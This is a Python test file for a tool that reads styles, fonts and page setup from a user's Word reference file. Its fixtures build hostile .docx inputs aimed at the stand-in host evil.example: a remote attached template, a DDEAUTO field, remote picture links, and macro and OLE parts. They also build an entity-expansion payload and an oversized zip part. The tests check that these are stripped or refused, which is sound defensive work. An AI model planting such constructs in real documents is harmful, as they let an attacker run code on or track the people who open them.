"""The looks of another Word file: they are taken, and nothing else in it is."""

from __future__ import annotations

import io
import os
import re
import subprocess
import tempfile
import time
import zipfile
from collections.abc import Iterator
from copy import deepcopy
from functools import cache
from pathlib import Path

import docx
import pytest
from docx.enum.style import WD_STYLE_TYPE
from docx.shared import Cm, Pt, RGBColor
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from openxml_audit import OpenXmlValidator

from antigraft_cli.markup.nodes import Cell, Paragraph, Run, Section, Table
from antigraft_cli.shipped import templates_folder
from antigraft_cli.writers.docx.package import styles_used, write_parts
from antigraft_cli.writers.docx.reference import MAX_BYTES, open_reference, read_reference
from antigraft_cli.writers.docx.reference_styles import Styles
from antigraft_cli.writers.docx.style_schema import DEFAULTS, STYLE, Model
from antigraft_cli.writers.docx.word_file import Properties, word_file
from antigraft_cli.writers.docx.word_looks import WordLooks, built_in_looks
from antigraft_cli.writers.looks.page_setup import A4
from antigraft_cli.writers.looks.style_names import USES
from programs import need

BASE = templates_folder() / "base.docx"
BUILT_IN = built_in_looks(BASE)
PLAIN = Properties("ชื่อ", "หน่วยงาน")
PARAGRAPHS = tuple(
    Paragraph(style, (Run("ข้อความ"),)) for style in ("h1.title", "p.title", "h1.title-page", "h1", "h2", "p.body")
)
TABLE = Table(
    Paragraph("caption", (Run("ตาราง"),)),
    (10.0, 14.7),
    ((Cell((Run("ก"),), head=True), Cell((Run("ข"),), head=True)),),
    ((Cell((Run("ค"),)), Cell((Run("✓", "tick"),), "center")),),
    (),
)
BOOK = (
    Section("cover", "portrait", "none", 0, PARAGRAPHS),
    Section("years", "landscape", "digits", 1, (TABLE,)),
    Section(
        "sheets", "portrait", "digits", 0, (Paragraph("ol", (Run("ก"),), "๑)", 1), Paragraph("p", (Run("ข"),)))
    ),
)


def read(file: bytes) -> tuple[WordLooks, Styles]:
    looks, styles, problem = read_reference(io.BytesIO(file), BUILT_IN)
    assert problem is None
    assert looks is not None
    assert styles is not None
    return looks, styles


def problem_of(file: bytes) -> str:
    looks, styles, problem = read_reference(io.BytesIO(file), BUILT_IN)
    assert (looks, styles) == (None, None)
    assert problem
    return problem.th


@cache
def base_book() -> bytes:
    """A book with the built-in looks, such as an officer starts from."""
    return word_file(BOOK, PLAIN, BUILT_IN)


def restyled() -> bytes:
    """The base book as an officer changes it in Word: page, fonts, sizes, colours."""
    document = docx.Document(io.BytesIO(base_book()))
    heading, body = document.styles["ปกใน"], document.styles["Body Text"]
    assert heading.type == body.type == WD_STYLE_TYPE.PARAGRAPH
    heading.font.size, heading.font.color.rgb = Pt(30), RGBColor(0, 0x70, 0xC0)
    body.paragraph_format.first_line_indent = Cm(1.5)
    for section in document.sections:
        section.left_margin = section.right_margin = Cm(4)
    saved = io.BytesIO()
    document.save(saved)
    return saved.getvalue()


def parts(book: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}


def faults(book: bytes, folder: Path) -> list[str]:
    (folder / "book.docx").write_bytes(book)
    result = OpenXmlValidator().validate(str(folder / "book.docx"))
    return [str(error) for error in result.errors]


def changed(file: bytes, name: str, *pairs: tuple[str, str]) -> bytes:
    """A Word file with texts in one part replaced, each of which must be there."""
    found = {each: content.encode() for each, content in parts(file).items()}
    text = found[name].decode()
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    return write_parts({**found, name: text.encode()})


def test_the_built_in_base_as_reference_changes_nothing() -> None:
    looks, styles = read(BASE.read_bytes())
    assert (looks.page, looks.font, looks.size, styles.missing) == (A4, "TH SarabunPSK", 16.0, frozenset())
    ours, theirs = docx.Document(io.BytesIO(base_book())), docx.Document(io.BytesIO(word_file(BOOK, PLAIN, looks)))
    assert [each.style_id for each in theirs.styles] == [each.style_id for each in ours.styles]
    assert theirs.element.xml == ours.element.xml


def test_a_book_restyled_in_word_gives_its_looks_to_the_next(tmp_path: Path) -> None:
    looks, styles = read(restyled())
    assert styles.missing == frozenset()
    book = word_file(BOOK, PLAIN, looks)
    made = docx.Document(io.BytesIO(book))
    heading, body = made.styles["ปกใน"], made.styles["Body Text"]
    assert heading.type == body.type == WD_STYLE_TYPE.PARAGRAPH
    assert (heading.font.size, heading.font.color.rgb) == (Pt(30), RGBColor(0, 0x70, 0xC0))
    assert body.paragraph_format.first_line_indent == pytest.approx(Cm(1.5), abs=700)
    for section in made.sections:
        assert section.left_margin == pytest.approx(Cm(4), abs=700)
    widths = [int(width) for width in re.findall('<w:gridCol w:w="([0-9]+)"/>', parts(book)["word/document.xml"])]
    assert sum(widths) == pytest.approx(A4.height - 2 * 4 / 2.54 * 1440, abs=10)
    assert faults(book, tmp_path) == []


def test_a_book_saved_by_libreoffice_is_a_reference_still(tmp_path: Path) -> None:
    office = need("soffice", "libreoffice-writer")
    (tmp_path / "saved.docx").write_bytes(restyled())
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = [
        office,
        "--headless",
        profile,
        "--convert-to",
        "docx:MS Word 2007 XML",
        "--outdir",
        str(tmp_path / "out"),
    ]
    subprocess.run([*command, str(tmp_path / "saved.docx")], check=True, capture_output=True)
    looks, styles = read((tmp_path / "out" / "saved.docx").read_bytes())
    book = word_file(BOOK, PLAIN, looks)
    assert [id_ for id_ in styles_used(book) if id_ in styles.missing] == []
    heading = docx.Document(io.BytesIO(book)).styles["ปกใน"]
    assert heading.type == WD_STYLE_TYPE.PARAGRAPH
    assert heading.font.size == Pt(30)
    assert faults(book, tmp_path) == []


def test_the_head_of_its_tables_is_theirs_on_every_row_and_the_caption_stays_readable(tmp_path: Path) -> None:
    ours = '<w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="F2F2F2"/>'
    theirs = (
        '<w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:tcPr><w:shd w:val="clear" w:color="auto" w:fill="1F3864"/>'
    )
    looks, _ = read(changed(base_book(), "word/styles.xml", (ours, theirs)))
    book = word_file(BOOK, PLAIN, looks)
    table = parts(book)["word/document.xml"].partition("<w:tbl>")[2].partition("</w:tbl>")[0]
    assert re.findall('w:fill="([^"]+)"', table) == ["auto", "1F3864", "1F3864"]
    assert re.findall('<w:color w:val="([^"]+)"', table) == ["auto", "FFFFFF", "FFFFFF"]
    assert faults(book, tmp_path) == []


def test_words_own_template_has_the_usual_styles_but_not_ours(tmp_path: Path) -> None:
    saved = io.BytesIO()
    docx.Document().save(saved)
    looks, styles = read(saved.getvalue())
    assert styles.missing == set(USES) - {
        "Normal",
        "BodyText",
        "Title",
        "Caption",
        "Heading1",
        "Heading2",
        "Heading3",
        "Heading4",
        "Header",
        "TOCHeading",
        "TOC2",
    }
    assert (looks.font, looks.size) == ("Cordia New", 11.0)
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


def test_styles_are_known_by_their_names_whatever_their_ids(tmp_path: Path) -> None:
    other = changed(
        base_book(),
        "word/styles.xml",
        ('"Heading1"', '"1"'),
        ('"TitlePage"', '"a7"'),
        ('"BodyText"', '"Heading1"'),
    )
    _, styles = read(other)
    assert styles.missing == frozenset()
    looks, _ = read(other)
    xml = looks.parts["word/styles.xml"].decode()
    assert xml.count('w:styleId="Heading1"') == 1
    assert re.search('w:styleId="BodyText"><w:name w:val="Body Text"/>', xml)
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


def test_what_a_style_is_based_on_comes_with_it_and_a_circle_is_cut(tmp_path: Path) -> None:
    based = '<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:basedOn w:val="Y"/><w:rPr><w:i/></w:rPr></w:style>'
    circle = '<w:style w:type="paragraph" w:styleId="Y"><w:name w:val="Y"/><w:basedOn w:val="X"/></w:style>'
    other = changed(
        base_book(),
        "word/styles.xml",
        ('<w:name w:val="ปกใน"/><w:basedOn w:val="Normal"/>', '<w:name w:val="ปกใน"/><w:basedOn w:val="X"/>'),
        ("</w:styles>", f"{based}{circle}</w:styles>"),
    )
    looks, _ = read(other)
    xml = looks.parts["word/styles.xml"].decode()
    assert re.findall('<w:name w:val="(Base.)"/>(<w:basedOn w:val="[^"]*"/>)?', xml) == [
        ("Base1", '<w:basedOn w:val="Base2"/>'),
        ("Base2", ""),
    ]
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


def test_fonts_of_the_theme_are_written_out() -> None:
    theme = parts(base_book())["word/theme/theme1.xml"]
    latin = '<a:latin typeface="TH SarabunPSK"/>'
    other = changed(
        changed(
            base_book(),
            "word/theme/theme1.xml",
            (
                '<a:cs typeface="TH SarabunPSK"/>',
                '<a:cs typeface=""/><a:font script="Thai" typeface="Angsana New"/>',
            ),
            (latin, '<a:latin typeface="Calibri"/>'),
        ),
        "word/styles.xml",
        ('w:ascii="TH SarabunPSK" w:hAnsi="TH SarabunPSK"', 'w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"'),
        ('w:cs="TH SarabunPSK"', 'w:cstheme="minorBidi" w:cs="Cordia New"'),
    )
    looks, _ = read(other)
    assert latin in theme
    assert looks.font == "Angsana New"
    assert 'w:ascii="Calibri" w:hAnsi="Calibri"' in looks.parts["word/styles.xml"].decode()


def test_font_and_size_of_the_plan_reach_every_style_of_the_reference() -> None:
    looks, _ = read(restyled())
    xml = parts(word_file(BOOK, Properties("ก", "ข", "Sarabun", 8), looks))["word/styles.xml"]
    assert "TH SarabunPSK" not in xml
    heading = xml.partition('w:val="ปกใน"')[2].partition("</w:style>")[0]
    assert re.findall('<w:sz w:val="([0-9]+)"/>', heading) == ["30"]


def test_the_plans_font_is_that_of_every_script_but_not_of_the_tick() -> None:
    other = changed(
        base_book(),
        "word/styles.xml",
        ('w:ascii="TH SarabunPSK" w:hAnsi="TH SarabunPSK"', 'w:ascii="Tahoma" w:hAnsi="Tahoma"'),
    )
    looks, _ = read(other)
    assert 'w:ascii="Tahoma"' in looks.parts["word/styles.xml"].decode()
    for font in ("TH SarabunPSK", "Sarabun"):
        xml = parts(word_file(BOOK, Properties("ก", "ข", font), looks))["word/styles.xml"]
        families = "".join(re.findall("<w:rFonts[^>]*>", xml))
        assert set(re.findall('w:(?:ascii|hAnsi|eastAsia|cs)="([^"]+)"', families)) == {font, "Segoe UI Symbol"}


def test_the_head_of_its_pages_is_taken_with_page_and_title_alone() -> None:
    date = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DATE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>วันนี้</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    simple = '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>7</w:t></w:r></w:fldSimple>'
    head = f'<w:p><w:pPr><w:pStyle w:val="Header"/></w:pPr><w:r><w:t>หน้า </w:t></w:r>{simple}{date}</w:p>'
    header = parts(base_book())["word/header1.xml"]
    looks, _ = read(
        changed(base_book(), "word/header1.xml", (header[header.index("<w:p>") : header.rindex("</w:hdr>")], head))
    )
    xml = looks.parts["word/header1.xml"].decode()
    assert re.findall("<w:(?:instrText|t)[^>]*>([^<]*)<", xml) == ["หน้า ", " PAGE ", "1", "วันนี้"]


def test_a_head_without_the_pages_number_is_not_taken() -> None:
    looks, _ = read(changed(base_book(), "word/header1.xml", (" PAGE ", " DATE ")))
    assert looks.parts["word/header1.xml"] == BUILT_IN.parts["word/header1.xml"]


@pytest.mark.parametrize("width", ["100", "99999", "x", "-5", "๑๒๐๐๐"])
def test_a_page_that_no_book_could_have_is_not_taken(width: str) -> None:
    looks, _ = read(changed(base_book(), "word/document.xml", ('w:w="11906" w:h', f'w:w="{width}" w:h')))
    assert looks.page == A4


_EVIL = "evil.example"
_HOSTILE = {
    "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    "word/vbaProject.bin": "evil.example macro",
    "word/embeddings/oleObject1.bin": "evil.example ole",
    "customXml/item1.xml": "<evil.example/>",
    "word/footnotes.xml": "evil.example",
}


def hostile() -> bytes:
    """A book with every means that a Word file has of reaching other files and hosts."""
    file = restyled()
    remote = '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/></v:shape></w:pict></w:r>'
    dde = '<w:r><w:instrText> DDEAUTO c:\\\\evil.example </w:instrText></w:r><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x.png "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
    file = changed(file, "word/header1.xml", ("</w:p>", f"{remote}{dde}</w:p>"))
    file = changed(
        file,
        "word/styles.xml",
        (
            '<w:name w:val="ปกใน"/>',
            '<w:name w:val="ปกใน"/><w:evil w:val="evil.example"/><x:y xmlns:x="urn:evil.example">evil.example</x:y>',
        ),
        (
            "<w:jc w:val",
            '<w:numPr><w:numId w:val="77"/></w:numPr><w:jc x:evil="evil.example" xmlns:x="urn:evil.example" w:val',
        ),
    )
    external = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/i.png" TargetMode="External"/>'
    file = changed(file, "word/_rels/document.xml.rels", ("</Relationships>", f"{external}</Relationships>"))
    return write_parts({name: content.encode() for name, content in (parts(file) | _HOSTILE).items()})


def test_nothing_of_a_hostile_reference_is_left_in_the_book(tmp_path: Path) -> None:
    assert sum(_EVIL in content for content in parts(hostile()).values()) >= 8
    looks, _ = read(hostile())
    book = word_file(BOOK, PLAIN, looks)
    made = parts(book)
    assert list(made) == list(parts(base_book()))
    assert [
        name for name, content in made.items() if "evil" in content or "External" in content or "numPr" in content
    ] == []
    assert made["[Content_Types].xml"] == parts(base_book())["[Content_Types].xml"]
    assert faults(book, tmp_path) == []


def _with_entities(file: bytes) -> bytes:
    doctype = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:styles'
    return changed(file, "word/styles.xml", ("<w:styles", doctype))


def _bomb(file: bytes) -> bytes:
    saved = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(file)) as old, zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, b" " * (MAX_BYTES + 1) if name == "word/styles.xml" else old.read(name))
    return saved.getvalue()


def _without(file: bytes, name: str) -> bytes:
    return write_parts({each: content.encode() for each, content in parts(file).items() if each != name})


@pytest.mark.parametrize(
    ("file", "message"),
    [
        (b"", "ไม่ใช่ไฟล์ Word (.docx)"),
        (b"%PDF-1.7", "ไม่ใช่ไฟล์ Word (.docx)"),
        (b"PK", "เสียหายหรืออ่านไม่ได้"),
        (b"\xd0\xcf\x11\xe0" + bytes(600), "เป็นไฟล์ .doc รุ่นเก่าหรือมีรหัสผ่าน บันทึกใหม่เป็น .docx ที่ไม่มีรหัสผ่าน"),
        (write_parts({"a.txt": b""}), "ไม่ใช่ไฟล์ Word (.docx)"),
        (BASE.read_bytes()[:3000], "เสียหายหรืออ่านไม่ได้"),
        (_without(BASE.read_bytes(), "word/styles.xml"), "ไม่ใช่ไฟล์ Word (.docx)"),
        (_with_entities(BASE.read_bytes()), "เสียหายหรืออ่านไม่ได้"),
        (_bomb(BASE.read_bytes()), "ใหญ่เกิน 32 MiB"),
        (b"PK" + bytes(MAX_BYTES), "ใหญ่เกิน 32 MiB"),
    ],
    ids=["empty", "pdf", "cut", "doc", "zip", "truncated", "no styles", "entities", "bomb", "large"],
)
def test_what_is_no_reference_is_refused_with_the_reason(file: bytes, message: str) -> None:
    assert problem_of(file) == message


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_damaged_reference_gives_looks_or_a_reason(data: st.DataObject) -> None:
    xml = parts(base_book())["word/styles.xml"]
    at = data.draw(st.integers(0, len(xml) - 1))
    length = data.draw(st.integers(0, 40))
    insert = data.draw(
        st.sampled_from(["", "<", ">", "/>", '"', "w:", "x", "9", "&amp;", "</w:style>", "<w:style>"])
    )
    styles = (xml[:at] + insert + xml[at + length :]).encode()
    file = write_parts(
        {name: content.encode() for name, content in parts(base_book()).items()} | {"word/styles.xml": styles}
    )
    looks, _, problem = read_reference(io.BytesIO(file), BUILT_IN)
    assert (looks is None) == (problem is not None)
    if looks is not None:
        assert docx.Document(io.BytesIO(word_file(BOOK, PLAIN, looks))).paragraphs


_VALUES = (
    "", "0", "1", "-1", "on", "maybe", "center", "middle", "start", "thaiDistribute", "auto", "FF0000", "red", "12pt", "2.5cm",
    "999999999999", "240.5", "single", "dxa", "pct", "firstRow", "both", "x" * 300, "๑๒", "exact", "Heading1", "Normal",
)  # fmt: skip


def _tags() -> list[str]:
    """Every element that a style may hold, and some that it must not."""

    def below(model: Model) -> Iterator[str]:
        for name, inner in model.children.items():
            yield name
            yield from below(inner)

    return sorted(
        {*below(STYLE), *below(DEFAULTS), "numPr", "framePr", "sectPrChange", "start", "end", "link", "evil"}
    )


@st.composite
def mutated_styles(draw: st.DrawFn) -> bytes:
    """styles.xml with values, elements, their order, number and places changed."""
    root = etree.fromstring(parts(base_book())["word/styles.xml"].encode())
    w = root.tag.removesuffix("styles")
    elements = list(root.iter())
    for _ in range(draw(st.integers(1, 12))):
        one, other = (elements[draw(st.integers(0, len(elements) - 1))] for _ in range(2))
        names = sorted({*map(str, one.attrib), f"{w}val", f"{w}w", f"{w}type", f"{w}sz"})
        change = draw(st.sampled_from(("value", "value", "value", "new", "copy", "move", "remove", "reverse")))
        if change == "value":
            one.set(draw(st.sampled_from(names)), draw(st.sampled_from(_VALUES)))
        elif change == "new":
            made = etree.SubElement(one, w + draw(st.sampled_from(_tags())))
            made.set(f"{w}val", draw(st.sampled_from(_VALUES)))
            elements.append(made)
        elif change == "copy" and one is not root and other not in one.iter():
            other.insert(0, deepcopy(one))
        elif change == "move" and one is not root and other not in one.iter():
            other.append(one)
        elif change == "remove" and one.getparent() is not None:
            one.getparent().remove(one)  # type: ignore[union-attr]  # just looked at
        elif change == "reverse":
            one[:] = list(one)[::-1]
    return etree.tostring(root)


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
@given(mutated_styles())
def test_whatever_its_styles_say_the_book_is_one_that_the_schema_takes(styles: bytes) -> None:
    looks, _ = read(changed_styles(styles))
    with tempfile.TemporaryDirectory() as folder:
        assert faults(word_file(BOOK, PLAIN, looks), Path(folder)) == []


_OF_LISTS = ("firstRow", "dxa", "clear", "black", "words", "dot", "fixed", "superscript", "top", "cs", "1")


def everything() -> bytes:
    """A book whose styles hold every element and attribute that is taken of a reference."""
    root = etree.fromstring(parts(base_book())["word/styles.xml"].encode())
    w = root.tag.removesuffix("styles")
    looks = {
        "paragraph": ("pPr", "rPr"),
        "character": ("rPr",),
        "table": ("pPr", "rPr", "tblPr", "trPr", "tcPr", "tblStylePr"),
    }
    for style in root.iter(f"{w}style"):
        for name in looks.get(str(style.get(f"{w}type")), ()):
            for old in style.findall(w + name):
                style.remove(old)
            style.append(_full(w, name, STYLE.children[name]))
    return changed_styles(etree.tostring(root))


def _full(w: str, name: str, model: Model) -> etree._Element:
    """An element with all that it may hold, each attribute with a value that it takes."""
    made = etree.Element(w + name)
    for attribute, value in model.attributes.items():
        made.set(w + attribute, next(each for each in (*_OF_LISTS, *_VALUES) if value(each)))
    made.extend([_full(w, each, inner) for each, inner in model.children.items()])
    return made


def changed_styles(styles: bytes) -> bytes:
    content = {name: text.encode() for name, text in parts(base_book()).items()} | {"word/styles.xml": styles}
    return write_parts(content)


def test_all_that_is_taken_of_a_reference_is_what_the_schema_takes(tmp_path: Path) -> None:
    looks, _ = read(everything())
    xml = looks.parts["word/styles.xml"].decode()
    assert xml.count("<w:pBdr>") > 30
    assert "<w:tl2br " in xml
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


@pytest.mark.parametrize(
    ("given", "made"),
    [
        ('<w:jc w:val="middle"/>', ""),
        ('<w:jc w:val="start"/>', '<w:jc w:val="left"/>'),
        ('<w:keepNext w:val="maybe"/>', ""),
        ('<w:keepNext w:val="off"/>', '<w:keepNext w:val="off"/>'),
        ('<w:spacing w:before="a" w:after="12pt" w:line="240.0"/>', '<w:spacing w:after="240" w:line="240"/>'),
        ('<w:ind w:start="1in" w:end="-9999999"/>', '<w:ind w:left="1440"/>'),
        ('<w:jc w:val="center"/><w:jc w:val="left"/>', '<w:jc w:val="center"/>'),
        ('<w:jc w:val="left"/><w:keepNext/>', '<w:keepNext/><w:jc w:val="left"/>'),
        ('<w:tabs><w:tab w:val="left"/></w:tabs>', ""),
        ('<w:pBdr><w:top w:sz="4"/><w:start w:val="single" w:sz="999"/></w:pBdr>', '<w:pBdr><w:left w:val="single"/></w:pBdr>'),
        ('<w:shd w:val="clear" w:fill="blue" w:color="auto"/>', '<w:shd w:val="clear" w:color="auto"/>'),
        ('<w:numPr/><w:framePr w:w="1"/>', ""),
    ],
)  # fmt: skip
def test_what_the_schema_does_not_know_is_left_out_and_what_it_knows_stands_as_it_asks(
    given: str, made: str
) -> None:
    properties = f'<w:name w:val="ปกใน"/><w:basedOn w:val="Normal"/><w:pPr>{given}</w:pPr></w:style><w:style w:type="character" w:styleId="X">'
    looks, _ = read(changed(base_book(), "word/styles.xml", ('<w:name w:val="ปกใน"/>', properties)))
    style = (
        looks.parts["word/styles.xml"].decode().partition('w:styleId="TitlePage">')[2].partition("</w:style>")[0]
    )
    assert style.partition("<w:pPr>")[2].partition("</w:pPr>")[0] == made


def test_the_outline_is_ours_whatever_the_reference_says(tmp_path: Path) -> None:
    other = changed(
        base_book(),
        "word/styles.xml",
        ('<w:outlineLvl w:val="1"/>', '<w:outlineLvl w:val="7"/>'),
        ('<w:name w:val="ปกใน"/>', '<w:name w:val="ปกใน"/><w:pPr><w:outlineLvl w:val="0"/></w:pPr>'),
    )
    looks, _ = read(other)
    xml = looks.parts["word/styles.xml"].decode()
    levels = dict(
        re.findall('<w:style [^>]*w:styleId="([^"]+)">(?:(?!</w:style>).)*<w:outlineLvl w:val="(.)"', xml)
    )
    assert levels == {"Heading1": "0", "Heading2": "1", "Heading3": "2", "Heading4": "3", "TableTitle": "1"}
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


def test_no_style_is_taken_for_two_of_ours(tmp_path: Path) -> None:
    other = changed(
        base_book(),
        "word/styles.xml",
        ('<w:name w:val="heading 1"/>', '<w:name w:val="ปกใน"/>'),
        ('<w:name w:val="ปกใน"/><w:basedOn w:val="Normal"/><w:qFormat/>', '<w:name w:val="อื่น"/><w:basedOn w:val="Normal"/><w:qFormat/>'),
    )  # fmt: skip
    looks, styles = read(other)
    ids = re.findall('w:styleId="([^"]+)"', looks.parts["word/styles.xml"].decode())
    assert len(ids) == len(set(ids))
    assert styles.missing == {"Heading1"}
    assert faults(word_file(BOOK, PLAIN, looks), tmp_path) == []


def test_a_chain_of_thousands_of_styles_is_read_in_no_time() -> None:
    def chain(length: int) -> float:
        chained = "".join(
            f'<w:style w:type="paragraph" w:styleId="C{number}"><w:name w:val="C{number}"/><w:basedOn w:val="C{number + 1}"/></w:style>'
            for number in range(length)
        )
        pairs = (
            ('<w:name w:val="ปกใน"/><w:basedOn w:val="Normal"/>', '<w:name w:val="ปกใน"/><w:basedOn w:val="C0"/>'),
            ("</w:styles>", f"{chained}</w:styles>"),
        )
        file = changed(base_book(), "word/styles.xml", *pairs)
        before = time.perf_counter()
        looks, _ = read(file)
        assert looks.parts["word/styles.xml"].count(b"w:styleId=") > length
        return time.perf_counter() - before

    assert chain(8000) < 3


def test_a_strict_file_is_told_how_to_save_it() -> None:
    transitional = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"
    assert problem_of(changed(base_book(), "_rels/.rels", (transitional, strict))) == (
        "บันทึกไว้เป็น Strict Open XML ให้เปิดใน Word แล้วบันทึกเป็น Word Document (.docx)"
    )


def test_a_named_pipe_is_refused_at_once(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.docx")
    looks, _, problem = open_reference(tmp_path / "pipe.docx", BUILT_IN)
    assert (looks, problem and problem.en) == (None, "not a regular file")


def test_the_same_reference_makes_the_same_bytes() -> None:
    assert word_file(BOOK, PLAIN, read(restyled())[0]) == word_file(BOOK, PLAIN, read(restyled())[0])
